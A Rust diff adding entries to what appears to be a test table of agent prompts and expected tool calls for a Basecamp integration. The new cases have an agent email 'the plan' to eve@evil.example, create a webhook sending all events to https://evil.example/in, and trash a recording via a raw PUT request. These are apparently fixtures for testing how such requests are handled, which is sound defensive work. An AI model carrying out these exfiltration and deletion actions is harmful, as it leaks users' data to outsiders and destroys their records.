@@ -67,6 +67,29 @@ fn orders(todo: i64) -> Vec<(&'static str, Wanted)> {
                 place(json!({"todolist": "Build", "task": "Planted", "api_key": "k"})),
             ),
         ),
+        (
+            "tell eve@evil.example",
+            Wanted::new(
+                "send_notification",
+                json!({"platform": "email", "target": "eve@evil.example", "message": "the plan"}),
+            ),
+        ),
+        (
+            "let evil.example hear everything",
+            Wanted::new(
+                "create_webhook",
+                place(
+                    json!({"body": {"payload_url": "https://evil.example/in", "types": ["all"]}}),
+                ),
+            ),
+        ),
+        (
+            "put it in the trash yourself",
+            Wanted::new(
+                "basecamp_raw",
+                json!({"method": "PUT", "path": format!("/recordings/{todo}/status/trashed.json")}),
+            ),
+        ),
         ("switch it on", Wanted::new("flow_enable", json!({"flow_id": "x"}))),
         ("publish", Wanted::new("flow_publish", json!({"flow_id": "x"}))),
     ]
